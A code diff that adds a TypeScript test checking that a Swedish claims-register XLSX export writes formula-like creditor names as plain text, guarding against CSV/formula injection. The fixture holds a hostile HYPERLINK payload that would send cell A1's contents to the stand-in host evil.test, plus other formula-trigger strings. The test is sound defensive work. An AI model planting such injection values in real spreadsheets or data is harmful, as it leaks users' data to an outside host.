@@ -1,3 +1,5 @@
+import { ValueType, Workbook } from 'exceljs';
+import { renderRegisterXlsx } from '../src/claims/register-xlsx';
 import { pdfText, registerFixture, rowsOf, sheetsOf } from './claims-register-fixture';
 import { type FilesWorld, loadWorld } from './files-fixtures';
 import { createTestApp, loginAll, type SignedIn, type TestApp } from './helper';
@@ -219,6 +221,54 @@ describe('the XLSX', () => {
     const rows = sheet ? rowsOf(sheet) : [];
     expect(rows.some((r) => r[1] === 'Inga fordringar har bevakats.')).toBe(true);
     expect(rows.at(-1)?.slice(1, 6)).toEqual(['Summa totalt', '0 fordringar', undefined, 0, 0]);
+  });
+  // Issue 12 §4 (OWASP CSV injection) holds for the workbook too: a name is a text cell, never a formula.
+  it('writes a creditor name that looks like a formula as text', async () => {
+    const hostile = '=HYPERLINK("http://evil.test/?d="&A1,"Öppna")';
+    const claim = {
+      claimNumber: 1,
+      creditorName: hostile,
+      creditorOrgNr: '@SUM(1+1)',
+      createdBy: '+cmd',
+      isCreatedByLawFirm: false,
+      lawFirmName: 'Nordlaw Advokatbyrå',
+      debtByDebtCollector: false,
+      debtCollectorName: null,
+      claimAmount: '10.00',
+      approvedAmount: null,
+      invoiceStatus: 'Pending' as const,
+      priorityRight: false,
+      createdOn: new Date('2026-03-01T09:00:00Z'),
+      isLate: false,
+    };
+    const totals = { count: 1, claimAmount: '10.00', approvedAmount: '0.00' };
+    const bytes = await renderRegisterXlsx({
+      case: {
+        caseId: 1,
+        knr: 'K 1-26',
+        debtorName: 'X AB',
+        debtorOrgnr: '556000-0000',
+        lawFirmName: 'N',
+        claimsDeadline: null,
+      },
+      language: 'sv',
+      drawnUp: new Date(),
+      groups: [
+        { priorityRight: false, totals, statuses: [{ invoiceStatus: 'Pending', totals, claims: [claim] }] },
+      ],
+      total: totals,
+    });
+    const book = new Workbook();
+    await book.xlsx.load(bytes as unknown as ArrayBuffer);
+    const cells: { value: unknown; type: ValueType }[] = [];
+    book.getWorksheet('Bevakningsförteckning')?.eachRow((row) => {
+      row.eachCell((cell) => {
+        cells.push({ value: cell.value, type: cell.type });
+      });
+    });
+    for (const value of [hostile, '@SUM(1+1)', '+cmd'])
+      expect(cells.find((cell) => cell.value === value)?.type).toBe(ValueType.String);
+    expect(cells.some((cell) => cell.type === ValueType.Formula)).toBe(false);
   });
 });
 
